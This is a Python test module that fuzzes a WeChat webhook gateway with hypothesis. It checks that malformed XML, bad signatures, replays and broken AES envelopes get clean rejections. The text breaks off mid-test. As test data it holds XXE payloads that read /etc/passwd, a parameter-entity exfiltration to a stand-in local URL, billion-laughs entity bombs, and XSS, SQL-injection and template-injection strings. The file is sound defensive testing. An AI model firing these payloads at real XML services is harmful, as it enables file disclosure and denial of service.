"""Hostile input over the WeChat webhook (issue 7), fuzzed with hypothesis.

One real gateway on loopback for the whole module (real Redis, SQLite records, no Rasa:
RASA_URL points at a port nobody listens on, so text gets the courteous "assistant
unavailable" reply). Every example must get a status below 500, no traceback or
exception text, nothing of /etc/passwd, no echo of what was sent in a rejection, and,
when there is a passive reply, XML that parses with defusedxml and carries the sender
back exactly (escaped, never interpreted). The gateway must still serve a normal
message at the end, and nothing it logged may carry a traceback.

Why hypothesis on `async def` tests: pytest-asyncio (>= 0.23) runs each example of an
async @given test on the test's loop, here the session loop that also runs the gateway,
so examples talk to the server over real HTTP with no thread hopping.
"""

from __future__ import annotations

import base64
import contextlib
import itertools
import logging
import os
import re
import struct
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote_from_bytes

import aiohttp
import pytest
from aiohttp.test_utils import TestServer
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from defusedxml.ElementTree import fromstring as safe_fromstring
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir
from hypothesis.errors import InvalidArgument
from yarl import URL

from bot import replies
from bot.config import PROJECT_ROOT, Settings
from bot.gateway.account import load_account
from bot.runtime.local_stack import free_port
from bot.wechat.crypto import WeChatCrypto, pkcs7_pad
from bot.wechat.menu import TOPICS
from bot.wechat.messages import TextMessage, parse_message
from bot.wechat.replies import text_reply
from bot.wechat.signature import sign
from bot.wechat.xmlio import parse_fields, render_xml
from tests.gateway_kit import ACCOUNT, assistant_of, gateway_settings, running_gateway

pytestmark = pytest.mark.asyncio(loop_scope="session")


# hypothesis caches the code's constants under .hypothesis/ in the working directory, which
# git does not ignore here; var/ is ignored (HYPOTHESIS_STORAGE_DIRECTORY still wins)
if not os.environ.get("HYPOTHESIS_STORAGE_DIRECTORY"):
    set_hypothesis_home_dir(PROJECT_ROOT / "var" / "hypothesis")


def examples(n: int) -> int:
    """`n` examples, times PATENTDESK_FUZZ_SCALE for a deeper run (say 20, before a release)."""
    return n * max(int(os.environ.get("PATENTDESK_FUZZ_SCALE") or 1), 1)


FUZZ: dict[str, Any] = {
    "deadline": None,
    "database": None,  # no .hypothesis/ folder in the work tree; failures print their reproduction
    "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                              HealthCheck.data_too_large, HealthCheck.large_base_example,
                              HealthCheck.filter_too_much],
}

# What a rejection may never look like: Python's exception machinery, or a 500 page.
STACK_LIKE = re.compile(r'Traceback|File "|\w+(?:Error|Exception|Warning)\b|line \d+, in |internal error'
                        r"|Internal Server Error")
MARKERS = ("<script", "onerror", "<svg", "passwd", "root:", "lol", "ENTITY", "CDATA")
PASSWD = [line for line in Path("/etc/passwd").read_text(encoding="utf-8", errors="replace").splitlines()
          if len(line) > 8]
CANNED = {replies.ASSISTANT_UNAVAILABLE, replies.UNSUPPORTED_MESSAGE, replies.VOICE_NOT_RECOGNISED,
          replies.UNKNOWN_MENU, replies.welcome_text(TOPICS),
          # a QR-code scan (issue 20): a scene's first-scan welcome, or "welcome back"
          replies.SCAN_AGAIN, *(scene.welcome for scene in load_account().scenes.values())}
_msg_ids = itertools.count(8_100_000_000_000_000_000, 7)


# -- the gateway -------------------------------------------------------------------------------

class Tracebacks(logging.Handler):
    """Every log record that carries a traceback (unhandled errors, crashed tasks)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.seen: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        if record.exc_info or "unhandled" in record.getMessage() or "never retrieved" in record.getMessage():
            self.seen.append(record)


class Hook:
    """The running gateway and how to talk to it as the platform would."""

    def __init__(self, settings: Settings, server: TestServer, http: aiohttp.ClientSession,
                 tracebacks: Tracebacks) -> None:
        self.settings = settings
        self.server = server
        self.http = http
        self.url = str(server.make_url("/wechat"))
        self.tracebacks = tracebacks
        self.crypto = WeChatCrypto(settings.wechat_token, settings.wechat_aes_key, settings.wechat_appid)

    def __repr__(self) -> str:  # hypothesis prints the arguments of a failing example
        return f"Hook({self.url})"

    def query(self, timestamp: int | str | None = None, nonce: str = "n0nce") -> dict[str, str]:
        ts = str(int(time.time()) if timestamp is None else timestamp)
        return {"timestamp": ts, "nonce": nonce, "signature": sign(self.settings.wechat_token, ts, nonce)}

    def seal(self, inner: str | bytes, query: dict[str, str]) -> tuple[bytes, dict[str, str]]:
        """Safe mode as the platform sends it: the envelope and the query with msg_signature."""
        text = inner.decode("utf-8") if isinstance(inner, bytes) else inner
        envelope = parse_fields(self.crypto.encrypt_message(text, query["timestamp"], query["nonce"]))
        return self.envelope(envelope["Encrypt"], query)

    def envelope(self, encrypted: str, query: dict[str, str], msg_signature: str | None = None) -> tuple[bytes, dict[str, str]]:
        """An envelope around `encrypted`, signed correctly unless `msg_signature` is given."""
        signature = sign(self.settings.wechat_token, query["timestamp"], query["nonce"], encrypted) \
            if msg_signature is None else msg_signature
        body = f"<xml><ToUserName><![CDATA[{ACCOUNT}]]></ToUserName><Encrypt><![CDATA[{encrypted}]]></Encrypt></xml>"
        return body.encode(), {**query, "encrypt_type": "aes", "msg_signature": signature}

    async def post(self, body: Any, params: dict[str, str] | None = None,
                   content_type: str | None = "text/xml") -> tuple[int, str]:
        headers = {} if content_type is None else {"Content-Type": content_type}
        async with self.http.post(self.url, params=params, data=body, headers=headers) as resp:
            return resp.status, await resp.text(errors="replace")


@pytest.fixture(scope="module")
async def hook(tmp_path_factory: pytest.TempPathFactory, redis_server) -> AsyncIterator[Hook]:
    settings = gateway_settings(tmp_path_factory.mktemp("fuzz-webhook"), redis_server.url,
                                f"http://127.0.0.1:{free_port()}")  # nobody listens: Rasa is down
    watcher = Tracebacks()
    logging.getLogger().addHandler(watcher)
    try:
        async with running_gateway(settings) as server, aiohttp.ClientSession() as http:
            yield Hook(settings, server, http, watcher)
    finally:
        logging.getLogger().removeHandler(watcher)


# -- what every answer must satisfy --------------------------------------------------------------

def assert_polite(status: int, body: str, what: object = "") -> None:
    """Below 500; no traceback, exception text or file content; a rejection is a short
    fixed reason that echoes nothing of the request."""
    with contextlib.suppress(InvalidArgument):  # outside a hypothesis test
        event(f"HTTP {status} " + ("reply" if body.startswith("<xml>") else body[:40].strip()))
    assert status < 500, (status, body[:300], what)
    assert not any(line in body for line in PASSWD), (body[:300], what)
    if status >= 300:
        assert not STACK_LIKE.search(body), (status, body[:300], what)
        assert len(body) <= 120, (status, body[:300], what)
        assert not any(marker in body for marker in MARKERS), (status, body[:300], what)


def assert_reply(status: int, body: str, openid: str, what: object = "") -> dict[str, str]:
    """A 200 with `success` or a passive text reply to `openid` that parses safely."""
    assert_polite(status, body, what)
    assert status == 200, (status, body[:300], what)
    if body == "success":
        return {}
    root = safe_fromstring(body.encode("utf-8"), forbid_dtd=True)  # what the platform would parse
    fields = {child.tag: child.text or "" for child in root}
    assert fields["ToUserName"] == xml_normalised(openid).strip(), (fields, what)
    assert fields["FromUserName"] == ACCOUNT and fields["MsgType"] == "text", (fields, what)
    assert fields["Content"] in CANNED, (fields["Content"][:200], what)  # nothing of the input interpreted
    return fields


def xml_ok(text: str) -> bool:
    """Every character is allowed in XML 1.0."""
    return all(c in "\t\n\r" or " " <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" or c >= "\U00010000" for c in text)


def xml_normalised(text: str) -> str:
    """What an XML parser hands back for `text` (line ends normalised)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def cdata(text: str) -> str:
    """CDATA written independently of bot.wechat (and without dropping anything)."""
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def message_xml(fields: dict[str, str | int]) -> str:
    return "<xml>" + "".join(f"<{k}>{v if isinstance(v, int) else cdata(v)}</{k}>" for k, v in fields.items()) + "</xml>"


def text_fields(openid: str = "o_fuzz", content: str = "年费怎么交") -> dict[str, str | int]:
    return {"ToUserName": ACCOUNT, "FromUserName": openid, "CreateTime": int(time.time()), "MsgType": "text",
            "Content": content, "MsgId": next(_msg_ids)}


# -- malformed XML -----------------------------------------------------------------------------

VALID = message_xml({"ToUserName": ACCOUNT, "FromUserName": "o_malformed", "CreateTime": 1_700_000_000,
                     "MsgType": "text", "Content": "年费<怎么>交 ]]> &amp;", "MsgId": 6_054_768_590_064_713_728})
CDATA_TRICKS = [
    "<xml><ToUserName><![CDATA[gh]]></ToUserName><Content><![CDATA[a]]>]]><![CDATA[b]]></Content></xml>",
    "<xml><ToUserName><![CDATA[gh</ToUserName></xml>",
    "<xml><Content><![CDATA[<![CDATA[nested]]>]]></Content></xml>",
    "<xml><Content><![CDATA[]]></Content><![CDATA[stray]]></xml>",
    "<xml><Content><!-- ]]> --><![CDATA[x]]></Content></xml>",
    "<xml><Content><![cdata[lower]]></Content></xml>",
    "<xml><?php echo 1; ?><ToUserName>gh</ToUserName></xml>",
    "<xml xmlns:x='urn:x'><x:ToUserName>gh</x:ToUserName><x:FromUserName>o</x:FromUserName></xml>",
]


def _without(names: frozenset[str]) -> bytes:
    fields = {"ToUserName": ACCOUNT, "FromUserName": "o_missing", "CreateTime": 1_700_000_000, "MsgType": "text",
              "Content": "x", "MsgId": 42}
    return message_xml({k: v for k, v in fields.items() if k not in names}).encode()


malformed_bodies = st.one_of(
    st.binary(max_size=400),
    st.text(max_size=400).map(lambda t: t.encode("utf-8")),
    st.integers(0, len(VALID) - 1).map(lambda n: VALID.encode()[:n]),  # truncated anywhere
    st.sets(st.sampled_from(["ToUserName", "FromUserName", "CreateTime", "MsgType"]), min_size=1)
    .map(frozenset).map(_without),
    st.sampled_from(["root", "XML", "Xml", "xml:x", "message"]).map(
        lambda tag: VALID.replace("<xml>", f"<{tag}>").replace("</xml>", f"</{tag}>").encode()),
    st.text(max_size=80).map(lambda junk: VALID.replace("<![CDATA[o_malformed]]>", junk).encode()),  # raw, unescaped
    st.sampled_from(["utf-16", "utf-16-le", "utf-32", "gbk", "big5", "latin-1", "cp1252"]).flatmap(
        lambda enc: st.sampled_from([VALID, f'<?xml version="1.0" encoding="{enc}"?>' + VALID,
                                     '<?xml version="1.0" encoding="utf-8"?>' + VALID]).map(
            lambda doc: doc.encode(enc, errors="replace"))),
    st.sampled_from([b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf\xef\xbb\xbf", b"\x00"]).map(
        lambda bom: bom + VALID.encode()),
    st.sampled_from(CDATA_TRICKS).map(str.encode),
    st.integers(1, 9000).map(lambda n: ("<xml>" + "<a>" * n + "</a>" * n + "</xml>").encode()),  # deep nesting
    st.integers(65, 4000).map(lambda n: ("<xml>" + "<f>1</f>" * n + "</xml>").encode()),  # too many fields
    st.integers(1, 60_000).map(lambda n: VALID.replace("年费", "费" * (n // 3)).encode()[:60_000]),  # huge field
)


@settings(max_examples=examples(300), **FUZZ)
@given(body=malformed_bodies, safe=st.booleans())
@example(body=b"", safe=False)
@example(body=b"<xml>", safe=False)
@example(body=b"<xml></xml>", safe=True)
@example(body=("<xml>" + "<a>" * 9000 + "</a>" * 9000 + "</xml>").encode(), safe=False)
@example(body=b"\xef\xbb\xbf" + VALID.encode("utf-8"), safe=False)
@example(body=VALID.encode("utf-16"), safe=True)
async def test_malformed_xml_gets_a_clear_4xx(hook: Hook, body: bytes, safe: bool) -> None:
    query = hook.query()
    plain = body
    if safe:  # the same junk inside a correct envelope
        plain = body.decode("utf-8", errors="replace").encode("utf-8")
        body, query = hook.seal(plain, query)
    status, text = await hook.post(body, query)
    if len(body) > hook.settings.gateway_max_body:  # the envelope grew past the limit
        assert status == 413, (status, text[:300])
    assert status in (200, 400, 413), (status, text[:300])
    if status == 200:  # it was a message after all (a BOM, another encoding): answered safely
        if safe and text != "success":
            text = _open(hook, text)
        assert_reply(status, text, parse_message(plain).from_user, body[:200])
    else:
        assert_polite(status, text, body[:200])


def _open(hook: Hook, body: str) -> str:
    """The inner reply XML of an encrypted passive reply (after checking its signature)."""
    fields = parse_fields(body)
    return hook.crypto.decrypt_message(body.encode(), fields["MsgSignature"], fields["TimeStamp"],
                                       fields["Nonce"]).decode("utf-8")


# -- entity expansion and external references ----------------------------------------------------

LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
REQUIRED_FIELDS = (f"<ToUserName>{ACCOUNT}</ToUserName>"
                   "<FromUserName>{who}</FromUserName><CreateTime>1700000000</CreateTime>"
                   "<MsgType>text</MsgType><MsgId>{msg_id}</MsgId>")
XXE = {
    "billion laughs": f'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol0 "lol">{LAUGHS}]>'
                      "<xml>" + REQUIRED_FIELDS + "<Content>&lol9;</Content></xml>",
    "quadratic blowup": '<!DOCTYPE xml [<!ENTITY a "' + "A" * 20_000 + '">]><xml>' + REQUIRED_FIELDS
                        + "<Content>" + "&a;" * 1000 + "</Content></xml>",
    "external entity in Content": '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                                  "<xml>" + REQUIRED_FIELDS + "<Content>&xxe;</Content></xml>",
    "external entity in the echoed sender": '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml>'
                                            + REQUIRED_FIELDS.replace("{who}", "&xxe;") + "<Content>x</Content></xml>",
    "parameter entity": '<!DOCTYPE xml [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><xml>' + REQUIRED_FIELDS
                        + "<Content>x</Content></xml>",
    "parameter entity exfiltration": '<!DOCTYPE xml [<!ENTITY % f SYSTEM "file:///etc/passwd">'
                                     '<!ENTITY % e "<!ENTITY &#x25; x SYSTEM \'http://127.0.0.1:9/?%f;\'>"> %e; %x;]>'
                                     "<xml>" + REQUIRED_FIELDS + "<Content>x</Content></xml>",
    "external DTD (file)": '<!DOCTYPE xml SYSTEM "file:///etc/passwd"><xml>' + REQUIRED_FIELDS
                           + "<Content>x</Content></xml>",
    "external DTD (http)": '<!DOCTYPE xml PUBLIC "-//X//EN" "http://127.0.0.1:9/evil.dtd"><xml>' + REQUIRED_FIELDS
                           + "<Content>x</Content></xml>",
    "internal entity": '<!DOCTYPE xml [<!ENTITY who "o_entity">]><xml>' + REQUIRED_FIELDS.replace("{who}", "&who;")
                       + "<Content>x</Content></xml>",
    "entity opening CDATA": '<!DOCTYPE xml [<!ENTITY c "<![CDATA[">]><xml>' + REQUIRED_FIELDS
                            + "<Content>&c;x]]></Content></xml>",
    "bare DOCTYPE": "<!DOCTYPE xml><xml>" + REQUIRED_FIELDS + "<Content>x</Content></xml>",
}
XXE_UTF16 = {"external entity, UTF-16": XXE["external entity in Content"]}


@pytest.mark.parametrize("safe", [False, True], ids=["plain", "aes"])
@pytest.mark.parametrize("name", [*XXE, *XXE_UTF16])
async def test_entities_and_dtds_are_rejected(hook: Hook, name: str, safe: bool) -> None:
    doc = {**XXE, **XXE_UTF16}[name].replace("{who}", "o_xxe").replace("{msg_id}", str(next(_msg_ids)))
    query = hook.query()
    if safe:
        body, query = hook.seal(doc, query)
    else:
        body = doc.encode("utf-16") if name in XXE_UTF16 else doc.encode("utf-8")
    runs = assistant_of(hook.server).bot_runs
    started = time.monotonic()
    status, text = await hook.post(body, query)
    assert status == 400, (name, status, text)
    assert_polite(status, text, name)
    assert time.monotonic() - started < 2, name  # refused before any expansion
    assert assistant_of(hook.server).bot_runs == runs


async def test_xinclude_is_inert(hook: Hook) -> None:
    """XInclude is only an element to a parser that does not process it: no file is read."""
    doc = ('<xml xmlns:xi="http://www.w3.org/2001/XInclude">' + REQUIRED_FIELDS.format(who="o_xinclude",
           msg_id=next(_msg_ids)) + '<Content><xi:include href="file:///etc/passwd" parse="text"/></Content></xml>')
    for safe in (False, True):
        query = hook.query()
        body, query = hook.seal(doc, query) if safe else (doc.encode(), query)
        status, text = await hook.post(body, query)
        assert_reply(status, _open(hook, text) if safe and status == 200 and text != "success" else text,
                     "o_xinclude", "xinclude")


# -- bodies over the limit -----------------------------------------------------------------------

@settings(max_examples=examples(10), **FUZZ)
@given(extra=st.integers(1, 65_536), chunked=st.booleans())
@example(extra=1, chunked=False)
@example(extra=1, chunked=True)
async def test_huge_bodies_get_413(hook: Hook, extra: int, chunked: bool) -> None:
    size = hook.settings.gateway_max_body + extra
    body = b"<xml><Content>" + b"A" * size + b"</Content></xml>"

    async def pieces() -> AsyncIterator[bytes]:  # no Content-Length: the gateway must count
        for start in range(0, len(body), 16_384):
            yield body[start:start + 16_384]

    status, text = await hook.post(pieces() if chunked else body, hook.query())
    assert status == 413, (status, text)
    assert_polite(status, text)


# -- signatures, timestamps, nonces --------------------------------------------------------------

@dataclass(frozen=True)
class Stamp:
    """A timestamp: `offset` seconds from now, or a literal query value."""

    offset: int | None = None
    literal: str | None = None

    def value(self, now: int) -> str:
        return str(now + self.offset) if self.offset is not None else str(self.literal)


@dataclass(frozen=True)
class Sig:
    """A signature: the right one transformed, or a literal."""

    how: str = "right"  # right | upper | chop | flip | pad | literal | missing
    literal: str = ""


WINDOW = 300  # WECHAT_TIMESTAMP_WINDOW's default, which gateway_settings keeps (checked below)
_in_window = st.integers(-(WINDOW - 10), WINDOW - 10).map(lambda d: Stamp(offset=d))
_any_stamp = st.one_of(
    st.integers(WINDOW + 10, 10**7).flatmap(lambda d: st.sampled_from([Stamp(offset=d), Stamp(offset=-d)])),
    st.integers(-(2**80), 2**80).map(lambda v: Stamp(literal=str(v))),
    st.text(max_size=30).map(lambda t: Stamp(literal=t)),
    st.sampled_from(["", " ", "1e9", "0x10", "1_700_000_000", "-0", "NaN", "inf", "+1", "9" * 400,
                     "1" + "0" * 400, "9" * 5000]).map(lambda t: Stamp(literal=t)),
    st.none(),
)
# one_of favours its richer branches; a sampled kind keeps the mix near the intended shares
stamps = st.sampled_from(["now", "any"]).flatmap(lambda kind: _in_window if kind == "now" else _any_stamp)
signatures = st.sampled_from(["right", "upper", "chop", "flip", "pad", "missing", "junk", "hex"]).flatmap(
    lambda how: st.text(max_size=60).map(lambda t: Sig("literal", t)) if how == "junk" else
    st.text(alphabet="0123456789abcdef", min_size=40, max_size=40).map(lambda t: Sig("literal", t)) if how == "hex"
    else st.just(Sig(how=how)))
nonces = st.one_of(st.none(), st.text(max_size=40), st.text(alphabet="0123456789abcdef", min_size=1, max_size=16))


def _signature(sig: Sig, right: str) -> str | None:
    return {"right": right, "upper": right.upper(), "chop": right[:-1], "flip": right[:-1] + ("0" if right[-1] != "0" else "1"),
            "pad": right + " ", "missing": None, "literal": sig.literal}[sig.how]


def _signed(token: str, ts: str | None, nonce: str | None, signature: str | None) -> bool:
    """The oracle: what the platform's recipe says, independently of bot.wechat.signature."""
    return signature is not None and signature != "" and signature.lower() == sign(token, ts or "", nonce or "")


def _accepted(token: str, now: int, ts: str | None, nonce: str | None, signature: str | None) -> bool:
    try:
        value = int(ts or "")
    except ValueError:
        return False
    return abs(now - value) <= WINDOW and _signed(token, ts, nonce, signature)


@settings(max_examples=examples(300), **FUZZ)
@given(stamp=stamps, sig=signatures, nonce=nonces)
@example(stamp=Stamp(offset=0), sig=Sig("right"), nonce="n1")  # the baseline is accepted
@example(stamp=Stamp(offset=0), sig=Sig("upper"), nonce="n1")
@example(stamp=Stamp(offset=-3600), sig=Sig("right"), nonce="n1")  # replayed an hour later
@example(stamp=Stamp(offset=3600), sig=Sig("right"), nonce="n1")  # from the future
@example(stamp=Stamp(offset=0), sig=Sig("literal", "ä" * 40), nonce="n1")  # non-ASCII signature
@example(stamp=Stamp(offset=0), sig=Sig("literal", "ﬀ"), nonce="n1")
@example(stamp=Stamp(literal="1" + "0" * 400), sig=Sig("right"), nonce="n1")  # beyond a float
@example(stamp=Stamp(literal="9" * 5000), sig=Sig("right"), nonce="n1")  # beyond int()'s digit limit
@example(stamp=None, sig=Sig("missing"), nonce=None)  # no query at all
async def test_signatures_and_the_replay_window(hook: Hook, stamp: Stamp | None, sig: Sig, nonce: str | None) -> None:
    assert hook.settings.wechat_timestamp_window == WINDOW
    now = int(time.time())
    ts = stamp.value(now) if stamp is not None else None
    right = sign(hook.settings.wechat_token, ts or "", nonce or "")
    signature = _signature(sig, right)
    params = {k: v for k, v in (("timestamp", ts), ("nonce", nonce), ("signature", signature)) if v is not None}
    openid = "o_sig"
    status, text = await hook.post(message_xml(text_fields(openid)).encode(), params)
    if _accepted(hook.settings.wechat_token, now, ts, nonce, signature):
        assert_reply(status, text, openid, params)
    else:
        assert status == 403, (status, text, params)
        assert_polite(status, text, params)


@settings(max_examples=examples(150), **FUZZ)
@given(stamp=stamps, sig=signatures, nonce=nonces, echostr=st.one_of(st.none(), st.text(max_size=80)))
@example(stamp=Stamp(offset=0), sig=Sig("right"), nonce="n", echostr="<script>alert(1)</script>")
@example(stamp=Stamp(offset=0), sig=Sig("literal", "é"), nonce="n", echostr="x")
async def test_verification_get(hook: Hook, stamp: Stamp | None, sig: Sig, nonce: str | None,
                                echostr: str | None) -> None:
    ts = stamp.value(int(time.time())) if stamp is not None else None
    signature = _signature(sig, sign(hook.settings.wechat_token, ts or "", nonce or ""))
    params = {k: v for k, v in (("timestamp", ts), ("nonce", nonce), ("signature", signature), ("echostr", echostr))
              if v is not None}
    async with hook.http.get(hook.url, params=params) as resp:
        status, text = resp.status, await resp.text()
        content_type = resp.content_type
    signed = _signed(hook.settings.wechat_token, ts, nonce, signature)
    if signed and echostr is not None:
        # the protocol echoes echostr, as plain text (never HTML)
        assert (status, text, content_type) == (200, echostr, "text/plain")
    else:
        assert status == (400 if signed else 403), (status, text, params)
        assert_polite(status, text, params)
        assert not echostr or len(echostr) < 12 or echostr not in text


@settings(max_examples=examples(100), **FUZZ)
@given(raw=st.dictionaries(st.sampled_from(["timestamp", "nonce", "signature", "msg_signature", "encrypt_type",
                                            "echostr", "openid", ""]), st.binary(max_size=40), max_size=6),
       method=st.sampled_from(["GET", "POST"]))
@example(raw={"signature": b"\xff\xfe", "timestamp": b"\xed\xa0\x80", "nonce": b"\x00"}, method="POST")
@example(raw={"encrypt_type": b"aes", "msg_signature": b"\xc3\xa4"}, method="POST")
async def test_raw_query_bytes(hook: Hook, raw: dict[str, bytes], method: str) -> None:
    """Query values that are no UTF-8 at all, percent-encoded byte by byte."""
    query = "&".join(f"{quote_from_bytes(k.encode(), safe='')}={quote_from_bytes(v, safe='')}" for k, v in raw.items())
    url = URL(f"{hook.url}?{query}", encoded=True)
    async with hook.http.request(method, url, data=message_xml(text_fields("o_raw")).encode(),
                                 headers={"Content-Type": "text/xml"}) as resp:
        status, text = resp.status, await resp.text(errors="replace")
    assert status in (400, 403), (status, text, raw)
    assert_polite(status, text, raw)


async def test_replayed_delivery_runs_once(hook: Hook) -> None:
    """The same signed request (same nonce) again: the first outcome is replayed; a stale
    copy is refused whatever its nonce."""
    query = hook.query(nonce="same-nonce")
    body = message_xml(text_fields("o_replay")).encode()
    runs = assistant_of(hook.server).bot_runs
    first = await hook.post(body, query)
    again = await hook.post(body, query)
    assert assert_reply(*first, "o_replay")["Content"] == assert_reply(*again, "o_replay")["Content"]
    assert assistant_of(hook.server).bot_runs == runs + 1
    other = await hook.post(message_xml(text_fields("o_replay", "另一个问题")).encode(), query)
    assert_reply(*other, "o_replay")  # dedupe is by MsgId; the nonce only feeds the signature
    stale = hook.query(int(time.time()) - 301, nonce="same-nonce")
    assert (await hook.post(body, stale))[0] == 403


# -- safe mode -------------------------------------------------------------------------------------

CORRUPTIONS = ["base64", "wrong_key", "truncate", "bad_padding", "wrong_appid", "length_lie", "msg_signature",
               "no_msg_signature", "bitflip", "inner_garbage", "no_encrypt", "plain_body", "not_aes_type"]


def _raw_encrypt(key: bytes, plain: bytes) -> str:
    encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(encryptor.update(plain) + encryptor.finalize()).decode()


@settings(max_examples=examples(300), **FUZZ)
@given(corruption=st.sampled_from(CORRUPTIONS), data=st.data())
@example(corruption="msg_signature", data=None)
async def test_broken_aes_envelopes(hook: Hook, corruption: str, data: st.DataObject | None) -> None:
    def draw(strategy: st.SearchStrategy[Any], fallback: Any) -> Any:
        return data.draw(strategy) if data is not None else fallback

    query = hook.query(nonce=draw(st.text(alphabet="abcdef0123456789", min_size=1, max_size=10), "n"))
    inner = message_xml(text_fields("o_aes"))
    key, appid = hook.crypto.key, hook.settings.wechat_appid
    good = parse_fields(hook.crypto.encrypt_message(inner, query["timestamp"], query["nonce"]))["Encrypt"]
    expect: tuple[int, ...] = (400,)
    msg_signature: str | None = None
    body: bytes | None = None
    encrypted = good
    if corruption == "base64":
        at = draw(st.integers(0, len(good) - 1), 5)
        junk = draw(st.sampled_from([c for c in "!*$-_. %\u00e9=" if c != good[at]]), "!")  # "=" may be there already
        encrypted = good[:at] + junk + good[at + 1:]
        if junk == " " and at in (0, len(good) - 1):
            expect = (403,)  # the gateway strips the field, so it no longer matches what was signed
    elif corruption == "wrong_key":
        other = draw(st.binary(min_size=32, max_size=32).filter(lambda k: k != key), b"\x01" * 32)
        other_crypto = WeChatCrypto("t", base64.b64encode(other).decode()[:43], appid)  # 43 chars: the "=" dropped
        assert other_crypto.key == other
        encrypted = parse_fields(other_crypto.encrypt_message(inner, query["timestamp"], query["nonce"]))["Encrypt"]
    elif corruption == "truncate":
        encrypted = good[:draw(st.integers(0, len(good) - 1), 10)]
    elif corruption == "bad_padding":
        plain = b"0" * 16 + struct.pack(">I", len(inner.encode())) + inner.encode() + appid.encode()
        padded = pkcs7_pad(plain)
        n = padded[-1]
        bad = draw(st.sampled_from([0, 33, 255, n + 1 if n < 32 else 1]), 0)
        encrypted = _raw_encrypt(key, padded[:-1] + bytes([bad]))
    elif corruption == "wrong_appid":
        other_app = draw(st.text(min_size=0, max_size=30).filter(lambda a: a != appid), "wxSOMEONEELSE")
        encrypted = _raw_encrypt(key, pkcs7_pad(b"0" * 16 + struct.pack(">I", len(inner.encode())) + inner.encode()
                                                + other_app.encode()))
    elif corruption == "length_lie":
        declared = draw(st.one_of(st.integers(len(inner.encode()) + 1, 2**32 - 1), st.integers(0, len(inner.encode()) - 1)),
                        2**32 - 1)
        encrypted = _raw_encrypt(key, pkcs7_pad(b"0" * 16 + struct.pack(">I", declared) + inner.encode()
                                                + appid.encode()))
    elif corruption == "msg_signature":
        right = sign(hook.settings.wechat_token, query["timestamp"], query["nonce"], good)
        msg_signature = draw(st.text(max_size=60).filter(lambda s: s.lower() != right), "ä" * 40)
        expect = (403,)
    elif corruption == "no_msg_signature":
        msg_signature = ""
        expect = (403,)
    elif corruption == "bitflip":
        raw = bytearray(base64.b64decode(good))
        at = draw(st.integers(0, len(raw) - 1), 0)
        raw[at] ^= 1 << draw(st.integers(0, 7), 0)
        encrypted = base64.b64encode(bytes(raw)).decode()
        expect = (200, 400)  # a flip in the random prefix's block may leave a readable message
    elif corruption == "inner_garbage":
        junk = draw(st.one_of(st.text(max_size=200), st.sampled_from(list(XXE.values()))), "<xml>")
        encrypted = parse_fields(hook.crypto.encrypt_message(junk.replace("{who}", "o").replace("{msg_id}", "1"),
                                                             query["timestamp"], query["nonce"]))["Encrypt"]
    elif corruption == "no_encrypt":
        body = draw(st.sampled_from([b"<xml><ToUserName>gh</ToUserName></xml>", b"<xml><Encrypt></Encrypt></xml>",
                                     b"<xml><Encrypt>   </Encrypt></xml>"]), b"<xml></xml>")
    elif corruption == "plain_body":
        body = inner.encode()  # a plaintext message claiming to be encrypted
    elif corruption == "not_aes_type":
        sealed, params = hook.envelope(good, query)
        params["encrypt_type"] = draw(st.sampled_from(["AES", "Aes", "raw", "", "aes256"]), "AES")
        status, text = await hook.post(sealed, params)
        if params["encrypt_type"].lower() == "aes":
            assert_reply(status, _open(hook, text) if status == 200 and text != "success" else text, "o_aes")
        else:  # read as plaintext: an envelope is no message
            assert status == 400, (status, text)
            assert_polite(status, text)
        return
    if body is None:
        body, params = hook.envelope(encrypted, query, msg_signature)
    else:
        params = {**query, "encrypt_type": "aes",
                  "msg_signature": sign(hook.settings.wechat_token, query["timestamp"], query["nonce"], "")}
    status, text = await hook.post(body, params)
    assert status in expect, (corruption, status, text)
    if status == 200:
        assert_reply(status, _open(hook, text) if text != "success" else text, "o_aes", corruption)
    else:
        assert_polite(status, text, corruption)


# -- valid but odd messages ----------------------------------------------------------------------

MSG_TYPES = ["text", "image", "voice", "video", "shortvideo", "location", "link", "file", "event",
             "miniprogrampage", "TEXT", "Event", "unknown"]
EVENTS = ["subscribe", "unsubscribe", "CLICK", "VIEW", "SCAN", "LOCATION", "TEMPLATESENDJOBFINISH",
          "view_miniprogram", "kf_create_session", "click", "nonsense"]
HOSTILE_TEXT = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
                "]]><script>x</script><![CDATA[", "&lt;b&gt; &amp; &#x3c;", "{{7*7}} ${7*7} %s %n",
                "'; DROP TABLE messages; --", "\u202eevil\u202c", "😀" * 50, "专利年费" * 2500, "\t\n\r  \u3000"]
openids = st.one_of(st.sampled_from(["o_odd", *HOSTILE_TEXT[:5]]), st.text(min_size=1, max_size=40)).filter(
    lambda s: bool(s.strip()))
contents = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=300),
                     st.integers(2_000, 12_000).map(lambda n: "专" * n))


@settings(max_examples=examples(250), **FUZZ)
@given(msg_type=st.one_of(st.sampled_from(MSG_TYPES), st.text(min_size=1, max_size=20)),
       event_name=st.one_of(st.sampled_from(EVENTS), st.text(max_size=20)), openid=openids, content=contents,
       event_key=st.one_of(st.just(""), st.sampled_from(["FAQ_ANNUAL_FEE", "HUMAN", "NO_SUCH_KEY"]), st.text(max_size=30)),
